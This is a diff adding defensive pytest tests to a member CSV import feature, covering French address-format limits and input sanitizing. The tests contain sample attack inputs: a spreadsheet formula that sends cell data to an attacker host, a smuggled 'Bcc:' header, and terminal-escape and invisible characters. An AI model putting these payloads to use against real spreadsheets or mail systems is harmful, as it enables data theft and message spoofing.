@@ -223,3 +223,87 @@ def test_the_documented_example(farm: Organisation, tmp_path: Path) -> None:
     assert import_members(farm, write(tmp_path, example.rsplit("12345;", 1)[0], "fixed.csv")).created == 2
     marie = MemberRecord.objects.get(member_number="12345678")
     assert marie.facts == {"health_card_serial": "1234567890", "recent_benefit_amount": "1234.56"}
+
+
+def test_an_address_a_letter_cannot_carry_is_rejected_with_its_line(farm: Organisation, tmp_path: Path) -> None:
+    """The letter's address block is the name plus at most 6 lines (AFNOR NF Z10-011): the import refuses more,
+    rather than store an address that no letter (provisioning, recovery) can then be sent to."""
+    six = "\n".join(f"Ligne {i}" for i in range(1, 7))
+    seven = "\n".join(f"Ligne {i}" for i in range(1, 8))
+    text = f'member_number,first_name,last_name,address\n12000001,Marie,Dupont,"{six}"\n12000002,Jean,Roux,"{seven}"\n'
+    report = tmp_path / "rejected.csv"
+    with translation.override("fr"):
+        summary = import_members(farm, write(tmp_path, text), report=report)
+    assert (summary.rejected, summary.written) == (1, False) and not MemberRecord.objects.exists()
+    assert report_rows(report)[1] == [
+        "8", "12000002", "L'adresse a 7 lignes ; un courrier en prend au plus 6 en plus du nom."]
+
+
+def test_a_report_named_like_the_imported_file_is_refused_and_the_file_kept(pension: Organisation,
+                                                                             tmp_path: Path) -> None:
+    path = write(tmp_path, PENSION_HEADER + MARIE)
+    before = path.read_bytes()
+    with translation.override("fr"), pytest.raises(CsvFormatError, match="rapport"):
+        import_members(pension, path, report=tmp_path / "." / "members.csv")
+    assert path.read_bytes() == before and not MemberRecord.objects.exists()
+
+
+def test_report_cells_that_a_spreadsheet_would_evaluate_are_made_text(pension: Organisation, tmp_path: Path) -> None:
+    """The report quotes the registry's cells, and operators open it in a spreadsheet (CSV injection)."""
+    report = tmp_path / "rejected.csv"
+    cells = ['=HYPERLINK("http://attacker.example/?"&B1,"Click")', "+33 1", "-12", "@SUM(A1)", "12"]
+    text = "member_number,last_name\n" + "".join('"' + c.replace('"', '""') + '",X\n' for c in cells)
+    import_members(pension, write(tmp_path, text), report=report)
+    rows = report_rows(report)[1:]
+    assert [number for _, number, _ in rows] == ["'" + c for c in cells[:4]] + ["12"]
+    assert not any(reason.startswith(("=", "+", "-", "@")) for _, _, reason in rows)
+
+
+@pytest.mark.parametrize("column, cell", [
+    ("first_name", '"Marie\r\nBcc: x@attacker.example"'),
+    ("last_name", "Dupont\u202e"),                    # right-to-left override
+    ("last_name", "Dupont\x1b[2J"),                   # terminal escape
+    ("last_name", "Du\u200bpont"),                    # zero-width space
+    ("last_name", "Dupont\u2028Martin"),              # Unicode line separator
+    ("category", "far\tmer"),
+    ("fact:employer", "Mairie\x07"),
+    ("address", '"12 rue des Lilas\u202e\n75011 Paris"'),
+])
+def test_control_and_format_characters_are_rejected(farm: Organisation, tmp_path: Path, column: str,
+                                                    cell: str) -> None:
+    summary = import_members(farm, write(tmp_path, f"member_number,{column}\n12000001,{cell}\n"))
+    assert summary.rejected == 1 and not MemberRecord.objects.exists()
+    assert f"column {column} contains an invisible or control character" in summary.first_rejections[0].reason
+
+
+def test_address_line_breaks_are_still_welcome(farm: Organisation, tmp_path: Path) -> None:
+    summary = import_members(farm, write(tmp_path, 'member_number,address\n12000001,"1 rue A\r\n75001 Paris"\n'))
+    assert summary.rejected == 0 and MemberRecord.objects.get().address == "1 rue A\n75001 Paris"
+
+
+def test_fact_cells_are_at_most_200_characters(pension: Organisation, tmp_path: Path) -> None:
+    text = f"member_number,fact:employer\n123456789,{'A' * 200}\n100000002,{'A' * 201}\n"
+    summary = import_members(pension, write(tmp_path, text), partial=True)
+    assert (summary.created, summary.rejected) == (1, 1)
+    assert summary.first_rejections[0].reason == "The value in column fact:employer is longer than 200 characters."
+
+
+def test_a_cell_beyond_the_csv_field_limit_is_explained_in_french(pension: Organisation, tmp_path: Path) -> None:
+    path = write(tmp_path, f"member_number,fact:employer\n123456789,{'A' * 200_000}\n")
+    with translation.override("fr"), pytest.raises(CsvFormatError) as error:
+        import_members(pension, path)
+    assert str(error.value).startswith("Une valeur vers la ligne 2 dépasse 131072 caractères")
+    assert "field limit" not in str(error.value)
+
+
+def test_address_lines_are_at_most_38_characters(farm: Organisation, tmp_path: Path) -> None:
+    """AFNOR NF Z10-011's 38 characters a line: a longer line may not fit the envelope's window."""
+    fits = "12 avenue du Maréchal-de-Lattre-de-Tassigny"[:38]
+    too_long = fits + "y"
+    text = (f'member_number,address\n12000001,"{fits}\n75011 Paris"\n'
+            f'12000002,"Résidence B\n{too_long}\n75011 Paris"\n')
+    summary = import_members(farm, write(tmp_path, text), partial=True)
+    assert (summary.created, summary.rejected) == (1, 1)
+    rejection = summary.first_rejections[0]
+    assert rejection.line == 4 and "longer than 38 characters" in rejection.reason
+    assert MemberRecord.objects.get().address == f"{fits}\n75011 Paris"
